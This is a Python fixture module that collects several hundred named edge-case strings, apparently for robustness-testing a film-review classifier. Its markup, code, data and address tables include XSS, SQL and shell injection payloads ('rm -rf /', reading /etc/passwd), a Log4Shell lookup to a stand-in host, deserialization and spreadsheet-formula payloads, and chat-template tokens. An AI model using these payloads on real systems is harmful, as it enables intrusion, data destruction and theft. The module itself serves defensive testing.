"""More than 300 texts that somebody may paste, or write to do harm, each under a name."""

import unicodedata

MANY = 4_000  # far more than any model reads, and quick to go through

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>a good film</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>* { display: none }</style>",
    "<style>@import url(http://x.example)</style>",
    "<link rel=stylesheet href=http://x.example>",
    "<meta http-equiv=refresh content='0; url=http://x.example'>",
    "<base href=http://x.example>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=http://x.example><button>ok</button></form>",
    "<table><tr><td>cell</table>",
    "<template><b>x</b></template>",
    "</textarea><b>out</b>",
    "</title><b>out</b>",
    "</script><b>out</b>",
    "</style><b>out</b>",
    "</p></div></section></span>",
    "</td></tr></table><h1>out</h1>",
    "'><b>out</b>",
    '"><b>out</b>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "` onmouseover=`alert(1)",
    "<!-- a comment -->",
    "<!-- an open comment",
    "--> <b>out</b>",
    "<![CDATA[ a good film ]]>",
    "<!DOCTYPE html><html>",
    "<?php echo 1; ?>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
    "<%= 7 * 7 %>",
    "{{ 7 * 7 }} {% include 'x' %}",
    "${7*7} #{7*7}",
    "<br /><br />Not good.",
    "<BR>Not<BR/>good",
    "<<b>>bold<</b>>",
    "<b",
    "<",
    ">",
    "< >",
    "a < b > c",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203a \ufe64script\ufe65",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<span class='imdb-word' data-score='+9.99' title='+9.99'>bad</span>",
    "<sup>++</sup> <p class=imdb-verdict>POSITIVE</p>",
]

ENTITIES = [
    "&lt;b&gt;bold&lt;/b&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62; &#x3c;b&#x3E;",
    "&LT;b&GT",
    "&lt",
    "&",
    "&&&;;;",
    "&nbsp;&shy;&zwnj;",
    "&quot;&apos;&#39;&#34;",
    "&#0; &#x0; &#55296; &#1114112;",
    "&notanentity; &CounterClockwiseContourIntegral;",
    "&#x202e;evil",
    "AT&T Q&A R&B",
]

MATHS = [
    "$x^2$",
    "$$\\int_0^1 x\\,dx$$",
    "\\(a\\) \\[b\\]",
    "\\begin{equation} e = mc^2 \\end{equation}",
    "\\href{javascript:alert(1)}{x}",
    "\\unicode{x41} \\require{html} \\style{color: red}{x}",
    "\\def\\x{\\x\\x}\\x",
    "costs $5 or $6",
    "`code` *bold* _it_ # heading",
    "[a link](javascript:alert(1)) ![a picture](x)",
    "~~~\ncode\n~~~",
    "| a | b |\n|---|---|",
    "- [ ] item\n1. item",
]

CODE = [
    "'; DROP TABLE reviews; --",
    "1 OR 1=1",
    "' UNION SELECT password FROM users --",
    "Robert'); DROP TABLE Students;--",
    "$(rm -rf /)",
    "`rm -rf /`",
    "; cat /etc/passwd |",
    "&& shutdown -h now",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\con\\nul",
    "/dev/null",
    "%s %d %n %x %1$s",
    "{0} {name!r} {0.__class__}",
    "%(text)s",
    "__import__('os').system('true')",
    "import os; os._exit(1)",
    "exit() quit()",
    "def f(x):\n\treturn x ** 2\n",
    "for (;;) {}",
    "NaN nan inf -inf Infinity",
    "None null nil undefined true false",
    "() { :; }; echo vulnerable",
    "\\n \\t \\0 \\x00 \\u0000 \\",
    "\\",
    "\\\\\\\\",
    "!!python/object/apply:os.system ['true']",
    "${jndi:ldap://x.example/a}",
    "cos\nsystem\n(S'true'\ntR.",
    "(?:a+)+$ " + "a" * 40 + "!",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\x1b[2J\x1b[H",
]

DATA = [
    '{"label": "POSITIVE", "score": 1.0}',
    "{'a': [1, 2, {'b': None}]}",
    "[" * 200 + "]" * 200,
    '{"a":' * 100 + "1" + "}" * 100,
    "text,label\na good film,1\n",
    '"a good film",1',
    "a;b;c\t1\t2",
    '"""',
    '"a ""quoted"" film"',
    "a, b, c,,,,",
    "=1+1",
    '"=1+1"',
    '=HYPERLINK("http://x.example", "x")',
    "+1-1",
    "-1+1",
    "@SUM(1)",
    "|calc",
    "=cmd|' /C calc'!A0",
    "%0A=1+1",
    "\t=1+1",
    "\r\n=1+1",
    "  \u200b=1+1",
    "\uff1d1+1",
    "\ufe661+1",
    "\u207c1\u207a1",
    "\u208c1\u208a1",
    "\u22121+1",
    "--- a: b\n... *x &x",
    "key: value # comment",
    "data: x\n\nevent: y",
    "Content-Type: text/html\r\n\r\n<b>x</b>",
    "BEGIN:VCARD\nEND:VCARD",
]

ADDRESSES = [
    "http://x.example/?a=b&c=d#e",
    "https://user:secret@x.example:8080/",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "//x.example/a.js",
    "mailto:a@x.example?subject=good",
    "http://[::1]:80/",
    "http://xn--80ak6aa92e.com",
    "www.x.example a.b@c.d #tag @name",
    "https://x.example/" + "a" * 3_000,
    "http://x.example/\u202egnp.exe",
]

SPECIAL_TOKENS = [
    "[CLS]", "[SEP]", "[PAD]", "[UNK]", "[MASK]", "[cls]", "[ SEP ]", "[unused1]", "##ing", "##",
    "<s>", "</s>", "<pad>", "<unk>", "<mask>", "<cls>", "<sep>", "<eod>", "<eop>", "<bos>", "<eos>",
    "<|endoftext|>", "<|im_start|>system", "<|im_end|>", "<|begin_of_text|>", "<|eot_id|>",
    "<|start_header_id|>user<|end_header_id|>", "<|system|>", "<|user|>", "<|assistant|>",
    "<start_of_turn>model", "<end_of_turn>", "[INST] x [/INST]", "<<SYS>> x <</SYS>>",
    "<extra_id_0>", "<extra_id_99>", "\u2581good", "\u0120good", "\u010a", "@@ment", "[BOS]",
    "<0x0A>", "<\uff5cbegin\u2581of\u2581sentence\uff5c>", "<fim_prefix>", "[gMASK]", "[CLS][SEP]",
]  # fmt: skip

DIRECTIONS = {
    name: code
    for name, code in [
        ("left-to-right mark", "\u200e"), ("right-to-left mark", "\u200f"),
        ("arabic letter mark", "\u061c"), ("embedding ltr", "\u202a"), ("embedding rtl", "\u202b"),
        ("pop", "\u202c"), ("override ltr", "\u202d"), ("override rtl", "\u202e"),
        ("isolate ltr", "\u2066"), ("isolate rtl", "\u2067"), ("isolate first", "\u2068"),
        ("pop isolate", "\u2069"),
    ]
}  # fmt: skip

INVISIBLE = [
    "\u00ad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u17b5", "\u180e", "\u200b", "\u200c",
    "\u200d", "\u2028", "\u2029", "\u2060", "\u2061", "\u2064", "\u206a", "\u206f", "\u2800",
    "\u3164", "\ufe00", "\ufe0f", "\ufeff", "\uffa0", "\ufff9", "\ufffb", "\U000e0001",
    "\U000e0041", "\U000e007f", "\U000e0100", "\U0001d173", "\ue000", "\U00100000",
]  # fmt: skip

CONTROLS = [chr(n) for n in (*range(9), *range(9, 33), *range(127, 160, 6))]

ACCENTS = [
    "e\u0301", "a\u0308\u0304", "g\u0301\u0302\u0316ood", "\u0301", "\u0301good", " \u0301 ",
    "o" + "\u0301" * 9, "o" + "\u0301" * MANY, "o" + "\u0301\u0302\u0316\u0489" * 500,
    "".join(letter + "\u0336" for letter in "a good film"),
    "Z\u0351\u036b\u0343\u036a\u0302a\u0361lgo",
    "\u20dd\u20e3", "1\ufe0f\u20e3", "\u0e01\u0e34\u0e48\u0e49", "\u0915\u094d\u0937\u093f",
]  # fmt: skip

EMOJI = [
    "\U0001f600", "\U0001f44d\U0001f3fd",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f1e9\U0001f1ea\U0001f1eb\U0001f1f7", "\u2764\ufe0f",
    "\u200d\u200d\u200d", "\U0001f469\u200d", "\u200d\U0001f469",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f600" * MANY, "good\U0001f600bad", ":-) :( ;-D <3 ^_^ \u00af\\_(\u30c4)_/\u00af",
]  # fmt: skip

WRITINGS = [
    "这部电影真好看。", "這部電影不好看！", "とても良い映画でした。", "カタカナ　ﾊﾝｶｸ",
    "아주 좋은 영화",
    "هذا فيلم رائع", "هذا film رائع good", "سرט טוב מאוד", "می‌خواهم", "यह एक अच्छी फ़िल्म है",
    "หนังดีมาก", "это хороший фильм", "αυτή είναι μια καλή ταινία", "շատ լավ ֆիլմ", "ძალიან კარგი",
    "ቆንጆ ፊልም", "ᚠᛁᛚᛗ", "ᓱᓕᔪᖅ", "𝓰𝓸𝓸𝓭 𝖋𝖎𝖑𝖒", "ｇｏｏｄ　ｆｉｌｍ", "ⓖⓞⓞⓓ", "ɓɐp ɯlᴉɟ", "gооd filmе",
    "ﬁlm ﬀ ﬃ ﷺ", "ǅ ß ẞ İ ı ſ K Å", "𐐀𐐨 𠀀 𝄞", "½ ² ₃ Ⅷ ㎏ №", "«bien» „gut“ ‚so‘ 「映画」",
    "— – ‐ ‑ ‒ ― …", "\u00a0\u2003\u3000good\u2009film\u202f",
]  # fmt: skip

LONG = {
    "one endless word": "x" * MANY,
    "one endless word, then words": "x" * MANY + " awful film",
    "words, then one endless word": "awful film " + "x" * MANY,
    "99 letters": "x" * 99,
    "100 letters": "x" * 100,
    "101 letters": "x" * 101,
    "endless words": ("x" * 150 + " ") * 40,
    "many words": "a good film. " * 400,
    "one letter each": "a " * MANY,
    "punctuation": "!?" * MANY,
    "brackets": "<" * MANY,
    "ampersands": "&" * MANY,
    "quotes": "\"'" * MANY,
    "hyphens": "-" * MANY,
    "a line of chinese": "电影" * MANY,
    "endless number": "1234567890" * 400,
    "camel case": "GoodFilm" * 500,
    "underscores": "good_" * 800,
    "numbers of invisible": ("g\u200b\u200e" * 20 + " ") * 60,
    "accents on every word": ("go\u0301\u0302\u0316\u0489\u0301\u0302\u0316\u0489\u0301od ") * 200,
    "special tokens": "An awful film. " + "[SEP] " * 400,
}

BLANK = {
    "NUL": "\x00",
    "empty": "",
    "a space": " ",
    "many spaces": " " * MANY,
    "tabs": "\t" * 50,
    "newlines": "\n" * MANY,
    "returns": "\r\n\r\n\r",
    "form feeds": "\x0b\x0c\x1c\x1d\x1e\x85",
    "wide space": "\u3000",
    "zero width": "\u200b\u200b",
    "different invisible": "".join(map(chr, range(0xE000, 0xE000 + MANY))),
}

NEARLY_NOTHING = {
    "spaces, then a word": " " * MANY + "good",
    "a word, spaces, a word": "good" + " " * MANY + "bad",
    "newlines between": "a\n\n\n\n\ngood\r\n\r\nfilm\r",
    "byte order mark": "\ufeffgood film",
    "byte order mark, wrong way": "\ufffegood film",
    "no character": "\uffff\U0001ffff",
    "replacement": "\ufffd\ufffd good",
    "one letter": "a",
    "one capital": "I",
    "one digit": "7",
    "one full stop": ".",
    "numbers": "1 2 3 4.5 -6e7 0x1f",
    "zero": "0",
    "NUL inside": "good\x00bad",
    "NUL at the end": "good film\x00",
    "high half": "good \ud83d film",
    "low half": "\udc00",
    "halves the wrong way": "\ude00\ud83d",
    "a half at the end": "good film \ud83d",
    "bytes as text": "b'good film'",
    "wrongly decoded": "itâ€™s a naÃ¯ve cafÃ©",
    "escaped bytes": "good \udcc3\udca9 film",
}


def _all() -> dict[str, str]:
    """Name every text of the tables above."""
    listed = {
        "markup": MARKUP, "entity": ENTITIES, "maths": MATHS, "code": CODE, "data": DATA,
        "address": ADDRESSES, "special token": SPECIAL_TOKENS, "accents": ACCENTS, "emoji": EMOJI,
        "writing": WRITINGS,
    }  # fmt: skip
    texts = {}
    for kind, table in listed.items():
        texts |= {f"{kind} {number}": text for number, text in enumerate(table, 1)}
    for token in SPECIAL_TOKENS[:5]:
        texts[f"{token} between words"] = f"good{token}bad {token} film {token}"
    for name, code in DIRECTIONS.items():
        texts[name] = f"good {code}evil{code} film"
    for character in (*INVISIBLE, *CONTROLS):
        name = unicodedata.name(character, "unnamed").lower()
        texts[f"U+{ord(character):04X} {name}"] = f"g{character}ood {character} film{character}"
    return texts | LONG | NEARLY_NOTHING | BLANK


TEXTS = _all()
